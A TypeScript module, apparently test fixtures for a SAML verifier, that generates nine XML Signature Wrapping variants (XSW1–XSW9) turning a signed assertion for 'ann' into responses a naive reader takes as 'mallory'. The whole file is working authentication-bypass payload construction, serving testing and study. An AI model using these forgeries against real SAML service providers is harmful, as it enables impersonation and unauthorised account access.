import { assertionXml, responseXml, type Said } from "./identity-provider.ts"

/**
 * Signature wrapping, after Somorovsky and others, "On Breaking SAML" (2012): a signed message about ann is rebuilt so
 * that a check finds what was signed, and a reader finds mallory.
 */
export const wrappings = (
  signedAssertion: string,
  signedResponse: string,
  said: Said
): Readonly<Record<string, string>> => {
  const evil = assertionXml({ ...said, subject: "mallory", id: "_evil" })
  const signature = /<Signature[\s\S]*?<\/Signature>/.exec(signedAssertion)![0]
  const ofResponse = /<Signature[\s\S]*?<\/Signature>/.exec(signedResponse)![0]
  const bare = signedAssertion.replace(signature, "")
  const into = (outer: string, inner: string, closing: string): string =>
    outer.replace(closing, () => `${inner}${closing}`)
  const END = "</saml:Assertion>"
  const evilSigned = evil.replace("</saml:Issuer>", () => `</saml:Issuer>${signature}`)
  const holding = (what: string): string =>
    signature.replace("</Signature>", () => `<Object>${what}</Object></Signature>`)
  const evilResponse = responseXml(evil, undefined, "_evilr")
  const inSignature = ofResponse.replace(
    "</Signature>",
    () => `<Object>${signedResponse.replace(ofResponse, "")}</Object></Signature>`
  )
  return {
    XSW1: into(evilResponse, inSignature, "</samlp:Response>"),
    XSW2: into(evilResponse, `${signedResponse.replace(ofResponse, "")}${ofResponse}`, "</samlp:Response>"),
    XSW3: responseXml(`${evil}${signedAssertion}`),
    XSW4: responseXml(into(evil, signedAssertion, END)),
    XSW5: responseXml(`${evilSigned}${bare}`),
    XSW6: responseXml(evil.replace("</saml:Issuer>", () => `</saml:Issuer>${holding(bare)}`)),
    XSW7: responseXml(`<samlp:Extensions>${evil}</samlp:Extensions>${signedAssertion}`),
    XSW8: responseXml(evil.replace("</saml:Issuer>", () => `</saml:Issuer>${holding(bare)}`).replace("_evil", "_a1")),
    XSW9: responseXml(`${signedAssertion}${evil.replace("_evil", "_a1")}`)
  }
}
